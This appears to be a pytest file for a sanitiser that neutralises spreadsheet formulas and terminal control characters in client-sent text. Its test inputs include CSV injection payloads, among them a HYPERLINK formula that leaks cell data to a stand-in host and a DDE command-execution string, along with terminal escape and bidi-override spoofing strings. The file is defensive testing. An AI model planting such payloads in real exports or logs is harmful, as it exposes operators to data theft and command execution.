"""Client-sent text where operators read it: no formula in a spreadsheet, no escape sequence,
control character or bidi override acting on a terminal (OWASP's CSV injection guidance)."""

from __future__ import annotations

import pytest

from thrad_events.reports.safe_text import csv_cell, terminal_text


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "-1,5",
        "-5.00.1",
    ],
)
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "-5.00", "+2.50", "-0.5", "-.5", "-1E+2", "+3e-4"])
def test_a_plain_number_stays_a_number(cell: str) -> None:
    """A negative conversion_value is data: a spreadsheet reads -5.00 as a number, no formula."""
    assert csv_cell(cell) == cell


@pytest.mark.parametrize("cell", ["page_view", "", "a=b", "x-y", " =1", "'quoted", '{"a":1}'])
def test_other_cells_are_kept_as_they_are(cell: str) -> None:
    assert csv_cell(cell) == cell


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),
        ("a\rb\nc\td\x00e\x08", "a\\x0db\\x0ac\\x09d\\x00e\\x08"),
        ("del\x7f", "del\\x7f"),
        ("\x9b31m c1", "\\x9b31m c1"),
        ("\u202egnp.exe", "\\u202egnp.exe"),
        ("\u2066x\u2069\u200f\u061c", "\\u2066x\\u2069\\u200f\\u061c"),
        ("line\u2028break", "line\\u2028break"),
    ],
)
def test_control_characters_show_as_visible_escapes(text: str, shown: str) -> None:
    assert terminal_text(text) == shown


@pytest.mark.parametrize("text", ["page_view", "[bold red]x[/]", "ünïcödé ✓ 日本", "a\\x1b"])
def test_printable_text_is_kept(text: str) -> None:
    assert terminal_text(text) == text
